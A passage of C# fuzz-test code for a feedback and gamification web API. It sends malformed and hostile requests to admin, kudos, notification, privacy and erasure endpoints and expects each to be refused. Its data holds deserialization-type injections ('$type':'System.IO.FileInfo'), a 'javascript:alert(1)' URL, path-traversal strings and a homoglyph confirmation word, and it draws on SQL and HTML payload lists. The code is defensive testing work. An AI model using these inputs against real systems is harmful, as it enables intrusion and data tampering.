        // the wrong content type or the wrong caller; the invalid ones each have at least one bad part.
        new(AdminSeasons, AdminSeasons, Caller.Admin,
            () => "{\"seasons\":[{\"id\":\"fuzz\",\"name\":\"Fuzz\",\"start\":\"2031-01-01\",\"end\":\"2031-01-31\"}]}",
            () => Chance(0.6) ? Pick(InvalidCalendars) : "{\"seasons\":[{\"id\":" + S(AnyHostile()) + ",\"name\":" + S(AnyHostile())
                + ",\"start\":" + S(Pick(BadDates)) + ",\"end\":\"2026-01-31\"}]}", NotAdmins, "PUT", 1),
        new(AdminSla, AdminSla, Caller.Admin,
            () => "{\"high\":{\"firstResponseMinutes\":30,\"resolutionMinutes\":240},\"normal\":{\"firstResponseMinutes\":240,\"resolutionMinutes\":2880},"
                + "\"low\":{\"firstResponseMinutes\":1440,\"resolutionMinutes\":10080}}",
            () => Chance(0.7) ? Pick(InvalidSla) : "{\"high\":{\"firstResponseMinutes\":" + Pick(WrongTypes) + ",\"resolutionMinutes\":" + S(AnyHostile()) + "}}",
            NotAdmins, "PUT", 1),
        new(AdminRoutingRules, AdminRoutingRules, Caller.Admin,
            () => $"{{\"triageDepartmentId\":\"{targets.RaviDepartment}\",\"rules\":[{{\"name\":\"fuzz\",\"keywords\":[\"fuzzword\"],\"departmentIds\":[\"{targets.OtherDepartment}\"]}}]}}",
            () => Chance(0.6) ? Pick(InvalidRouting) : "{\"triageDepartmentId\":" + S(AnyHostile()) + ",\"rules\":[{\"name\":" + S(AnyHostile())
                + ",\"keywords\":[" + S(AnyHostile()) + "],\"channels\":[" + S(Pick(BadChannels)) + "],\"departmentIds\":[" + S(AnyHostile()) + "]}]}",
            NotAdmins, "PUT", 1),
        new(AdminTaxonomy, AdminTaxonomy, Caller.Admin,
            () => "{\"topics\":[{\"name\":\"Fuzz\",\"keywords\":[\"fuzzword\"]}],\"products\":[]}",
            () => Chance(0.6) ? Pick(InvalidTaxonomy) : "{\"topics\":[{\"name\":" + S(AnyHostile()) + ",\"keywords\":[" + S(AnyHostile()) + "]}],\"products\":null}",
            NotAdmins, "PUT", 1),
        // The study as data: the valid bodies name version 1 (the shipped one); every invalid one has a bad part (a share of 2,
        // a negative amount, a missing version or list, a wrong type).
        new(AdminBenchmarks, AdminBenchmarks, Caller.Admin, () => ValidBenchmarks, InvalidBenchmarkBody, NotAdmins, "PUT", 1),
        new(AdminReturnModel, AdminReturnModel, Caller.Admin, () => ValidReturnModel, InvalidReturnModelBody, NotAdmins, "PUT", 1),
        new(AdminRulesPreview, AdminRulesPreview, Caller.Admin, () => targets.RuleDocument,
            () => Chance(0.7) ? Pick(InvalidRuleSets) : "{\"format\":2,\"badges\":" + S(AnyHostile()) + "}", NotAdmins, Weight: 1),
        new(AdminRulesApply, AdminRulesApply, Caller.Admin, () => targets.RuleDocument,
            () => Chance(0.7) ? Pick(InvalidRuleSets) : "{\"format\":2,\"badges\":" + S(AnyHostile()) + "}", NotAdmins, Weight: 1),
        new(Challenges, Challenges, Caller.Admin,
            () => "{\"name\":\"Fuzz\",\"metric\":\"items-resolved\",\"target\":1,\"startsAt\":\"2031-01-01T00:00:00Z\",\"endsAt\":\"2031-01-02T00:00:00Z\",\"scope\":\"company\",\"rewardPoints\":5,\"schedule\":true}",
            () => Chance(0.6) ? Pick(InvalidChallenges) : "{\"name\":" + S(AnyHostile()) + ",\"metric\":" + S(AnyHostile()) + ",\"target\":" + Pick(WrongTypes)
                + ",\"startsAt\":" + S(Pick(BadDates)) + ",\"scope\":" + S(AnyHostile()) + ",\"departmentIds\":[" + S(AnyHostile()) + "]}",
            NotAdmins, Weight: 1),
        new(Kudos, Kudos, Caller.Ravi, () => $"{{\"receiver\":\"{Guid.Empty}\",\"feedbackId\":\"{targets.Item}\",\"message\":\"Thanks\"}}",
            () => Chance(0.7) ? Pick(InvalidKudos()) : "{\"receiver\":" + S(AnyHostile()) + ",\"feedbackId\":\"" + targets.Item + "\",\"message\":" + S(AnyHostile()) + "}",
            NotEmployees, Weight: 1),
        new(NotificationsRead, NotificationsRead, Caller.Ravi, () => $"{{\"ids\":[\"{Guid.Empty}\"]}}",
            () => Chance(0.7) ? Pick(InvalidIds) : "{\"ids\":[" + S(AnyHostile()) + "]}", NotEmployees, Weight: 1),
        new(NotificationPreferences, NotificationPreferences, Caller.Ravi, () => "{\"muted\":[\"badge\",\"kudos\"]}",
            () => Chance(0.7) ? Pick(InvalidPreferences) : "{\"muted\":[" + S(AnyHostile()) + "]}", NotEmployees, "PUT", 1),
        new(WallboardTokens, WallboardTokens, Caller.Admin, () => "{\"name\":\"Fuzz screen\"}",
            () => Chance(0.7) ? Pick(InvalidNames) : "{\"name\":" + S(AnyHostile() + "\u0000") + "}", NotAdmins, Weight: 1),
        new(AdminWebhooks, AdminWebhooks, Caller.Admin, () => "{\"name\":\"fuzzsource\",\"channel\":\"blog\"}",
            () => Chance(0.6) ? Pick(InvalidSources) : "{\"name\":" + S(AnyHostile()) + ",\"channel\":" + S(Pick(BadChannels)) + "}", NotAdmins, Weight: 1),
    ];

    private string Batch(string name, IReadOnlyList<Field> fields, bool valid)
    {
        var count = random.Next(1, 6);
        if (valid)
        {
            return $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, count).Select(_ => ValidObject(fields)))}]}}";
        }

        var bad = random.Next(count);
        return random.Next(10) switch
        {
            0 => "{" + (Chance(0.5) ? "" : $"\"{name}\":" + Pick(new[] { "null", "[]", "{}", "\"items\"", "1", "true", "[null]", "[[]]", "[1,2]" })) + "}",
            1 => $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, 1_001).Select(_ => ValidObject(fields)))}]}}",
            2 => $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, count).Select(i => i == bad ? Pick(new[] { "null", "1", "\"x\"", "[]", "[{}]" }) : ValidObject(fields)))}]}}",
            3 => $"{{\"{name}\":{ValidObject(fields)}}}",
            4 => $"[{ValidObject(fields)}]",
            _ => $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, count).Select(i => i == bad ? InvalidObject(fields) : ValidObject(fields)))}]}}",
        };
    }

    private static readonly string[] InvalidRuleSets =
    [
            "{\"format\":2}", "{\"format\":1}", "{\"format\":\"2\"}", "{\"format\":99,\"rules\":[]}", "[]", "null", "42",
            "{\"format\":2,\"version\":1,\"rules\":[{\"id\":\"x\",\"action\":\"fly\"}]}",
            "{\"format\":2,\"$type\":\"System.IO.FileInfo\"}",
    ];

    private static readonly string[] InvalidCalendars =
    [
            "{}", "null", "[]", "42", "{\"seasons\":null}", "{\"seasons\":[null]}", "{\"seasons\":{}}", "{\"seasons\":\"all\"}",
            "{\"seasons\":[{\"id\":\"a\",\"name\":\"A\",\"start\":\"2026-02-01\",\"end\":\"2026-01-01\"}]}",
            "{\"seasons\":[{\"id\":\"a\",\"name\":\"A\",\"start\":\"2026-01-01\",\"end\":\"2026-01-31\"},"
                + "{\"id\":\"b\",\"name\":\"B\",\"start\":\"2026-01-31\",\"end\":\"2026-02-28\"}]}",
            "{\"seasons\":[{\"id\":\"a\",\"name\":\"A\",\"start\":\"2026-01-01\",\"end\":\"2026-01-31\",\"$type\":\"System.IO.FileInfo\"}]}",
    ];

    private const string ValidBenchmarks =
        "{\"version\":1,\"studies\":[{\"id\":\"fuzz\",\"source\":\"Fuzz study\",\"year\":2030,\"sampleSize\":10,\"url\":null,"
        + "\"figures\":[{\"id\":\"fuzz.readRate.rd\",\"label\":\"Fuzz\",\"value\":0.5,\"meaning\":\"Fuzz\"}]}],\"departmentFunctions\":[]}";

    private const string ValidReturnModel =
        "{\"version\":1,\"currency\":\"EUR\",\"hourlyCost\":1,\"minutesPerAction\":{\"read\":1,\"reply\":1,\"tag\":1,\"forward\":1,"
        + "\"insight\":1,\"resolve\":1},\"valuePerOutcome\":{\"insight\":1,\"resolvedComplaint\":1,\"replyWithinSla\":1},\"sources\":[\"fuzz\"]}";

    private string InvalidBenchmarkBody() => Chance(0.6)
        ? Pick(InvalidBenchmarks)
        : "{\"version\":1,\"studies\":[{\"id\":" + S(AnyHostile()) + ",\"source\":" + S(AnyHostile()) + ",\"year\":" + Pick(WrongTypes)
            + ",\"url\":" + S(AnyHostile()) + ",\"figures\":[{\"id\":" + S(AnyHostile()) + ",\"label\":" + S(AnyHostile())
            + ",\"value\":2,\"meaning\":" + S(AnyHostile()) + "}]}],\"departmentFunctions\":[{\"departmentId\":" + S(AnyHostile())
            + ",\"function\":" + S(AnyHostile()) + "}]}";

    private string InvalidReturnModelBody() => Chance(0.6)
        ? Pick(InvalidReturnModels)
        : "{\"version\":1,\"currency\":" + S(AnyHostile()) + ",\"hourlyCost\":-1,\"minutesPerAction\":{\"read\":" + Pick(WrongTypes)
            + "},\"valuePerOutcome\":null,\"sources\":[" + S(AnyHostile()) + "]}";

    private static readonly string[] InvalidBenchmarks =
    [
            "{}", "null", "[]", "42", "{\"version\":1}", "{\"version\":1,\"studies\":[],\"departmentFunctions\":[]}",
            "{\"version\":1,\"studies\":[null],\"departmentFunctions\":[]}",
            "{\"version\":\"one\",\"studies\":[],\"departmentFunctions\":[]}",
            "{\"studies\":[{\"id\":\"a\",\"source\":\"A\",\"year\":2020,\"figures\":[{\"id\":\"a.x\",\"label\":\"x\",\"value\":0.5,\"meaning\":\"x\"}]}],\"departmentFunctions\":[]}",
            "{\"version\":1,\"studies\":[{\"id\":\"a\",\"source\":\"A\",\"year\":2020,\"figures\":[{\"id\":\"a.x\",\"label\":\"x\",\"value\":27,\"meaning\":\"x\"}]}],\"departmentFunctions\":[]}",
            "{\"version\":1,\"studies\":[{\"id\":\"a\",\"source\":\"A\",\"year\":2020,\"figures\":[{\"id\":\"a.x\",\"label\":\"x\",\"value\":0.5,\"meaning\":\"x\"},{\"id\":\"a.x\",\"label\":\"y\",\"value\":0.5,\"meaning\":\"y\"}]}],\"departmentFunctions\":[]}",
            "{\"version\":1,\"studies\":[{\"id\":\"a\",\"source\":\"A\",\"year\":2020,\"figures\":[{\"id\":\"a.x\",\"label\":\"x\",\"value\":0.5,\"meaning\":\"x\"}]}],\"departmentFunctions\":[{\"departmentId\":\"00000000-0000-0000-0000-000000000001\",\"function\":\"rd\"}]}",
            "{\"version\":1,\"studies\":[{\"id\":\"a\",\"source\":\"A\",\"year\":2020,\"url\":\"javascript:alert(1)\",\"figures\":[{\"id\":\"a.x\",\"label\":\"x\",\"value\":0.5,\"meaning\":\"x\"}]}],\"departmentFunctions\":[],\"$type\":\"System.IO.FileInfo\"}",
    ];

    private static readonly string[] InvalidReturnModels =
    [
            "{}", "null", "[]", "42", "{\"version\":1}", "{\"version\":1,\"currency\":\"EUR\",\"hourlyCost\":50}",
            "{\"version\":1,\"currency\":\"euro\",\"hourlyCost\":50,\"minutesPerAction\":{\"read\":1,\"reply\":1,\"tag\":1,\"forward\":1,\"insight\":1,\"resolve\":1},\"valuePerOutcome\":{\"insight\":1,\"resolvedComplaint\":1,\"replyWithinSla\":1},\"sources\":[]}",
            "{\"version\":1,\"currency\":\"EUR\",\"hourlyCost\":1e30,\"minutesPerAction\":{\"read\":1,\"reply\":1,\"tag\":1,\"forward\":1,\"insight\":1,\"resolve\":1},\"valuePerOutcome\":{\"insight\":1,\"resolvedComplaint\":1,\"replyWithinSla\":1},\"sources\":[]}",
            "{\"currency\":\"EUR\",\"hourlyCost\":50,\"minutesPerAction\":{\"read\":1,\"reply\":1,\"tag\":1,\"forward\":1,\"insight\":1,\"resolve\":1},\"valuePerOutcome\":{\"insight\":1,\"resolvedComplaint\":1,\"replyWithinSla\":1},\"sources\":[]}",
            "{\"version\":1,\"currency\":\"EUR\",\"hourlyCost\":\"fifty\"}", "{\"$type\":\"System.IO.FileInfo\"}",
    ];

    private static readonly string[] InvalidSla =
    [
            "{}", "null", "[]", "42", "{\"high\":null}", "{\"high\":{},\"normal\":{},\"low\":{}}",
            "{\"high\":{\"firstResponseMinutes\":-1,\"resolutionMinutes\":60},\"normal\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60},\"low\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60}}",
            "{\"high\":{\"firstResponseMinutes\":600,\"resolutionMinutes\":60},\"normal\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60},\"low\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60}}",
            "{\"high\":{\"firstResponseMinutes\":2147483647,\"resolutionMinutes\":2147483647},\"normal\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60},\"low\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60}}",
            "{\"high\":{\"firstResponseMinutes\":1e30,\"resolutionMinutes\":60}}", "{\"high\":{\"firstResponseMinutes\":\"1h\"}}",
            "{\"urgent\":{\"firstResponseMinutes\":60,\"resolutionMinutes\":60}}", "{\"$type\":\"System.IO.FileInfo\"}",
    ];

    private static readonly string[] InvalidRouting =
    [
            "{}", "null", "[]", "42", "{\"rules\":null}", "{\"rules\":[null]}", "{\"rules\":{}}", "{\"triageDepartmentId\":\"x\",\"rules\":[]}",
            "{\"triageDepartmentId\":\"00000000-0000-0000-0000-000000000000\",\"rules\":[]}",
            "{\"triageDepartmentId\":\"00000000-0000-0000-0000-000000000001\",\"rules\":[{\"name\":\"a\",\"keywords\":[\"x\"],\"departmentIds\":[]}]}",
            "{\"rules\":[{\"name\":\"a\",\"keywords\":[\"Ravi Patel\"],\"departmentIds\":[\"00000000-0000-0000-0000-000000000001\"]}]}",
            "{\"rules\":[{\"name\":\"a\",\"channels\":[\"myspace\"],\"departmentIds\":[\"x\"],\"$type\":\"System.IO.FileInfo\"}]}",
    ];

    private static readonly string[] InvalidTaxonomy =
    [
            "{}", "null", "[]", "42", "{\"topics\":null,\"products\":[]}", "{\"topics\":[null],\"products\":[]}", "{\"topics\":{},\"products\":[]}",
            "{\"topics\":[{\"name\":\"a\",\"keywords\":[]}],\"products\":[]}",
            "{\"topics\":[{\"name\":\"a\",\"keywords\":[\"Ravi Patel\"]}],\"products\":[]}",
            "{\"topics\":[{\"name\":\"a,b\",\"keywords\":[\"x\"]}],\"products\":[{\"name\":\"A\",\"keywords\":[\"y\"]}],\"$type\":\"System.IO.FileInfo\"}",
    ];

    private static readonly string[] InvalidChallenges =
    [
            "{}", "null", "[]", "42", "{\"name\":null}",
            "{\"name\":\"x\",\"metric\":\"speed\",\"target\":1,\"startsAt\":\"2999-01-01T00:00:00Z\",\"endsAt\":\"2999-01-02T00:00:00Z\",\"scope\":\"company\",\"rewardPoints\":5}",
            "{\"name\":\"x\",\"metric\":\"action-count\",\"action\":\"reward\",\"target\":1,\"startsAt\":\"2999-01-01T00:00:00Z\",\"endsAt\":\"2999-01-02T00:00:00Z\",\"scope\":\"company\",\"rewardPoints\":5}",
            "{\"name\":\"x\",\"metric\":\"read-rate\",\"target\":1e30,\"startsAt\":\"2999-01-01T00:00:00Z\",\"endsAt\":\"2999-01-02T00:00:00Z\",\"scope\":\"company\",\"rewardPoints\":5}",
            "{\"name\":\"x\",\"metric\":\"items-resolved\",\"target\":1,\"startsAt\":\"2999-01-02T00:00:00Z\",\"endsAt\":\"2999-01-01T00:00:00Z\",\"scope\":\"company\",\"rewardPoints\":5}",
            "{\"name\":\"x\",\"metric\":\"items-resolved\",\"target\":1,\"startsAt\":\"2999-01-01T00:00:00Z\",\"endsAt\":\"2999-01-02T00:00:00Z\",\"scope\":\"department\",\"departmentIds\":[\"00000000-0000-0000-0000-000000000001\"],\"rewardPoints\":5}",
            "{\"name\":\"x\",\"metric\":\"items-resolved\",\"target\":1,\"startsAt\":\"2999-01-01T00:00:00Z\",\"endsAt\":\"2999-01-02T00:00:00Z\",\"scope\":\"company\",\"rewardPoints\":-5}",
            "{\"name\":\"x\",\"$type\":\"System.IO.FileInfo\"}",
    ];

    private static readonly string[] InvalidIds =
    [
            "{}", "null", "[]", "{\"ids\":[]}", "{\"ids\":null}", "{\"ids\":\"x\"}", "{\"ids\":[1]}", "{\"ids\":[\"x\"]}",
    ];

    private static readonly string[] InvalidPreferences =
    [
            "{}", "null", "[]", "{\"muted\":null}", "{\"muted\":\"badge\"}", "{\"muted\":[\"spam\"]}", "{\"muted\":[1]}",
    ];

    private static readonly string[] InvalidNames =
    [
            "{}", "null", "[]", "{\"name\":\"\"}", "{\"name\":\"   \"}", "{\"name\":null}", "{\"name\":1}",
            "{\"name\":\"a\\u0000b\"}", $"{{\"name\":\"{new string('n', 101)}\"}}",
    ];

    private static readonly string[] InvalidSources =
    [
        "{}", "null", "[]", "{\"name\":null}", "{\"name\":\"\"}", "{\"name\":\"has spaces\"}", "{\"name\":\"../../etc\"}",
        "{\"name\":\"ok-name\",\"channel\":\"myspace\"}", "{\"name\":1}",
    ];

    private string[] InvalidKudos() =>
    [
            "{}", "null", "[]", "{\"receiver\":\"x\"}", "{\"receiver\":null,\"feedbackId\":null}",
            $"{{\"receiver\":\"{Guid.NewGuid()}\",\"feedbackId\":\"{Guid.NewGuid()}\"}}",
            $"{{\"receiver\":\"{Guid.NewGuid()}\",\"feedbackId\":\"{targets.Item}\"}}",
            $"{{\"receiver\":\"{Guid.NewGuid()}\",\"feedbackId\":\"{targets.Item}\",\"message\":\"{new string('x', 400)}\"}}",
    ];

    /// <summary>
    /// <paramref name="count"/> requests that must all be refused with a 4xx problem and change nothing
    /// (a few that ignore their body may succeed harmlessly: sign-out, health probes, the web page).
    /// </summary>
    public List<FuzzRequest> Malformed(int count)
    {
        var all = Targets();
        var requests = new List<FuzzRequest>(count + 100);
        while (requests.Count < count)
        {
            var roll = random.Next(100);
            if (roll < 88)
            {
                requests.Add(ForTarget(PickWeighted(all)));
            }
            else if (roll < 93)
            {
                requests.Add(UnknownRoute());
            }
            else if (roll < 96)
            {
                requests.Add(HostileActionPath());
            }
            else if (roll < 97)
            {
                // Admins only, and it reads no body: everyone else is refused whatever they send.
                requests.Add(Post(AdminBackup, "not allowed", "/api/admin/backup" + (Chance(0.3) ? "?path=" + Uri.EscapeDataString("../../etc/" + AnyHostile()) : ""),
                    WrongShapeOrNull(), Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi })));
            }
            else if (roll < 98)
            {
                // Anonymous only: a signed-in logout ends every sign-in of the person, and the fuzzer's Ravi keeps working.
                requests.Add(Post(Logout, "sign-out", "/api/auth/logout", WrongShapeOrNull(), Caller.Anonymous, maySucceed: true));
            }
            else
            {
                requests.Add(HubTransport());
            }
        }

        // A few probes that answer any method without reading a body; they must stay harmless.
        for (var i = 0; i < 5; i++)
        {
            foreach (var route in new[] { HealthLive, HealthReady })
            {
                requests.Add(Post(route, "probe", route, Utf8(Pick(Sql)), Caller.Anonymous, maySucceed: true));
            }

            requests.Add(Post(PageFallback, "web page", "/" + Uri.EscapeDataString(Pick(Html)), WrongShapeBody(), Caller.Anonymous, maySucceed: true));
        }

        // Rule set previews: an admin's hostile or invalid documents get a 400, everyone else is refused; nothing changes.
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.7)
                ? Post(AdminRulesPreview, "invalid rule set", AdminRulesPreview,
                    Utf8(Chance(0.7) ? Pick(InvalidRuleSets) : "{\"format\":2,\"badges\":" + S(AnyHostile()) + "}"), Caller.Admin)
                : Post(AdminRulesPreview, "not allowed", AdminRulesPreview, WrongShapeOrNull(),
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi })));
        }

        // Rule set applies: the same hostile or invalid documents; an admin gets a 400, everyone else is refused; nothing changes.
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.7)
                ? Post(AdminRulesApply, "invalid rule set", AdminRulesApply,
                    Utf8(Chance(0.7) ? Pick(InvalidRuleSets) : "{\"format\":2,\"badges\":" + S(AnyHostile()) + "}"), Caller.Admin)
                : Post(AdminRulesApply, "not allowed", AdminRulesApply, WrongShapeOrNull(),
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi })));
        }

        // Season calendars: an admin's invalid or hostile calendars get a 400 (each one has at least one bad day), everyone
        // else is refused; the calendar in force stays.
        for (var i = 0; i < 12; i++)
        {
            var body = Chance(0.6)
                ? Pick(InvalidCalendars)
                : "{\"seasons\":[{\"id\":" + S(AnyHostile()) + ",\"name\":" + S(AnyHostile()) + ",\"start\":" + S(Pick(BadDates))
                    + ",\"end\":\"2026-01-31\"}]}";
            requests.Add(Chance(0.7)
                ? new FuzzRequest(AdminSeasons, "invalid season calendar", HttpMethod.Put, AdminSeasons, Utf8(body), Json, Caller.Admin, [],
                    false)
                : new FuzzRequest(AdminSeasons, "not allowed", HttpMethod.Put, AdminSeasons, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
        }

        // SLA targets: an admin's invalid or hostile targets get a 400 (each has at least one bad value), everyone else is
        // refused; the targets in force stay.
        for (var i = 0; i < 12; i++)
        {
            var body = Chance(0.7)
                ? Pick(InvalidSla)
                : "{\"high\":{\"firstResponseMinutes\":" + Pick(WrongTypes) + ",\"resolutionMinutes\":" + S(AnyHostile()) + "}}";
            requests.Add(Chance(0.7)
                ? new FuzzRequest(AdminSla, "invalid SLA targets", HttpMethod.Put, AdminSla, Utf8(body), Json, Caller.Admin, [], false)
                : new FuzzRequest(AdminSla, "not allowed", HttpMethod.Put, AdminSla, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
        }

        // Benchmarks and return model: an admin's invalid or hostile documents get a 400, everyone else is refused; the
        // documents in force stay.
        for (var i = 0; i < 12; i++)
        {
            var (route, body) = i % 2 == 0 ? (AdminBenchmarks, InvalidBenchmarkBody()) : (AdminReturnModel, InvalidReturnModelBody());
            requests.Add(Chance(0.7)
                ? new FuzzRequest(route, "invalid analytics document", HttpMethod.Put, route, Utf8(body), Json, Caller.Admin, [], false)
                : new FuzzRequest(route, "not allowed", HttpMethod.Put, route, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
        }

        // Routing rules: an admin's invalid or hostile lists get a 400 (each has at least one bad part: the triage department
        // here is never a real one), everyone else is refused; the rules in force stay.
        for (var i = 0; i < 12; i++)
        {
            var body = Chance(0.6)
                ? Pick(InvalidRouting)
                : "{\"triageDepartmentId\":" + S(AnyHostile()) + ",\"rules\":[{\"name\":" + S(AnyHostile()) + ",\"keywords\":[" + S(AnyHostile())
                    + "],\"channels\":[" + S(Pick(BadChannels)) + "],\"departmentIds\":[" + S(AnyHostile()) + "]}]}";
            requests.Add(Chance(0.7)
                ? new FuzzRequest(AdminRoutingRules, "invalid routing rules", HttpMethod.Put, AdminRoutingRules, Utf8(body), Json, Caller.Admin,
                    [], false)
                : new FuzzRequest(AdminRoutingRules, "not allowed", HttpMethod.Put, AdminRoutingRules, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
        }

        // Taxonomy: an admin's invalid or hostile topics and products get a 400 (each body has a bad part: a missing list, an
        // empty keyword list, a person's name, a comma in a name), everyone else is refused; the taxonomy in force stays.
        for (var i = 0; i < 12; i++)
        {
            var body = Chance(0.6)
                ? Pick(InvalidTaxonomy)
                : "{\"topics\":[{\"name\":" + S(AnyHostile()) + ",\"keywords\":[" + S(AnyHostile()) + "]}],\"products\":null}";
            requests.Add(Chance(0.7)
                ? new FuzzRequest(AdminTaxonomy, "invalid taxonomy", HttpMethod.Put, AdminTaxonomy, Utf8(body), Json, Caller.Admin, [], false)
                : new FuzzRequest(AdminTaxonomy, "not allowed", HttpMethod.Put, AdminTaxonomy, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
        }

        requests.AddRange(Intake());

        // Challenges: an admin's invalid or hostile challenges get a 400 (each has at least one bad field), employees and
        // integrations are refused; nothing is stored. Schedule and cancel of a challenge that does not exist: 404 for an
        // admin, refused for the others.
        for (var i = 0; i < 12; i++)
        {
            var body = Chance(0.6)
                ? Pick(InvalidChallenges)
                : "{\"name\":" + S(AnyHostile()) + ",\"metric\":" + S(AnyHostile()) + ",\"target\":" + Pick(WrongTypes) + ",\"startsAt\":"
                    + S(Pick(BadDates)) + ",\"scope\":" + S(AnyHostile()) + ",\"departmentIds\":[" + S(AnyHostile()) + "]}";
            requests.Add(Chance(0.7)
                ? Post(Challenges, "invalid challenge", Challenges, Utf8(body), Caller.Admin)
                : Post(Challenges, "not allowed", Challenges, Utf8(body), Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi })));
        }

        foreach (var (route, verb) in new[] { (ChallengeSchedule, "schedule"), (ChallengeCancel, "cancel") })
        {
            for (var i = 0; i < 6; i++)
            {
                var caller = Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi });
                var id = new byte[16];
                random.NextBytes(id); // from the seed, so a run can be replayed
                requests.Add(Post(route, caller == Caller.Admin ? "unknown challenge" : "not allowed", $"/api/challenges/{new Guid(id)}/{verb}",
                    WrongShapeOrNull(), caller));
            }
        }

        // The notification centre is an employee's: the admin (no employee), integrations and strangers are refused; Ravi's
        // malformed lists and preferences get a 400. Marking an unknown id read changes nothing.
        var others = new[] { Caller.Anonymous, Caller.Integration, Caller.Admin };
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.6)
                ? Post(NotificationsRead, "invalid ids", NotificationsRead,
                    Utf8(Chance(0.7) ? Pick(InvalidIds) : "{\"ids\":[" + S(AnyHostile()) + "]}"), Caller.Ravi)
                : Post(NotificationsRead, "not allowed", NotificationsRead, WrongShapeOrNull(), Pick(others)));
            requests.Add(Post(NotificationRead, "not allowed", $"/api/notifications/{Guid.NewGuid()}/read", WrongShapeOrNull(), Pick(others)));
            requests.Add(Post(NotificationsReadAll, "not allowed", NotificationsReadAll, WrongShapeOrNull(), Pick(others)));
            requests.Add(Chance(0.6)
                ? new FuzzRequest(NotificationPreferences, "invalid preferences", HttpMethod.Put, NotificationPreferences,
                    Utf8(Chance(0.7) ? Pick(InvalidPreferences) : "{\"muted\":[" + S(AnyHostile()) + "]}"), Json, Caller.Ravi, [], false)
                : new FuzzRequest(NotificationPreferences, "not allowed", HttpMethod.Put, NotificationPreferences, WrongShapeOrNull(), Json,
                    Pick(others), [], false));
        }

        requests.Add(Post(NotificationRead, "unknown id", $"/api/notifications/{Guid.NewGuid()}/read", null, Caller.Ravi, maySucceed: true));

        // Privacy: the admin's malformed settings and Ravi's malformed consent get a 400; anyone else is refused.
        var invalidSettings = new[]
        {
            "{}", "null", "[]", "{\"individualBoards\":true}", "{\"individualBoards\":\"yes\",\"minimumGroupSize\":5,\"managersSeeIndividuals\":false}",
            "{\"individualBoards\":true,\"minimumGroupSize\":0,\"managersSeeIndividuals\":false}",
            "{\"individualBoards\":true,\"minimumGroupSize\":-7,\"managersSeeIndividuals\":false}",
            "{\"individualBoards\":true,\"minimumGroupSize\":51,\"managersSeeIndividuals\":null}",
        };
        var invalidConsent = new[] { "{}", "null", "[]", "{\"rankedByName\":null}", "{\"rankedByName\":\"yes\"}", "{\"rankedByName\":1}" };
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.6)
                ? new FuzzRequest(AdminPrivacy, "invalid field", HttpMethod.Put, AdminPrivacy,
                    Utf8(Chance(0.8) ? Pick(invalidSettings) : "{\"minimumGroupSize\":" + S(AnyHostile()) + "}"), Json, Caller.Admin, [], false)
                : new FuzzRequest(AdminPrivacy, "not allowed", HttpMethod.Put, AdminPrivacy, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
            requests.Add(Chance(0.6)
                ? new FuzzRequest(MyPrivacy, "invalid field", HttpMethod.Put, MyPrivacy,
                    Utf8(Chance(0.8) ? Pick(invalidConsent) : "{\"rankedByName\":" + S(AnyHostile()) + "}"), Json, Caller.Ravi, [], false)
                : new FuzzRequest(MyPrivacy, "not allowed", HttpMethod.Put, MyPrivacy, WrongShapeOrNull(), Json,
                    Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Admin }), [], false));
        }

        // Kudos: Ravi's malformed ones (no receiver, yourself is not known to the fuzzer, an unknown item, a long message) are
        // refused; the admin (no employee), integrations and strangers too.
        for (var i = 0; i < 10; i++)
        {
            requests.Add(Chance(0.7)
                ? Post(Kudos, "invalid kudos", Kudos, Utf8(Chance(0.7) ? Pick(InvalidKudos())
                    : "{\"receiver\":" + S(AnyHostile()) + ",\"feedbackId\":\"" + targets.Item + "\",\"message\":" + S(AnyHostile()) + "}"), Caller.Ravi)
                : Post(Kudos, "not allowed", Kudos, WrongShapeOrNull(), Pick(others)));
        }

        // Wallboard tokens: an admin's bad names get a 400, revoking an unknown token a 404; everyone else is refused.
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.6)
                ? Post(WallboardTokens, "invalid token name", WallboardTokens, Utf8(Pick(InvalidNames)), Caller.Admin)
                : Post(WallboardTokens, "not allowed", WallboardTokens, WrongShapeOrNull(), Pick(new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi })));
            requests.Add(new FuzzRequest(WallboardToken, Chance(0.5) ? "unknown token" : "not allowed", HttpMethod.Delete,
                $"/api/admin/wallboard-tokens/{Guid.NewGuid()}", null, null, Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi }),
                [], false));
        }

        // Erasure: never without the confirmation word and (for "me") the right password; only admins erase others, and an
        // unknown employee is a 404. Nothing here may ever succeed: it would erase someone.
        var invalidErase = new[]
        {
            "{}", "null", "[]", "{\"confirm\":\"erase\"}", "{\"confirm\":\"ERASE \"}", "{\"confirm\":\"\u0415RASE\"}", "{\"confirm\":true}",
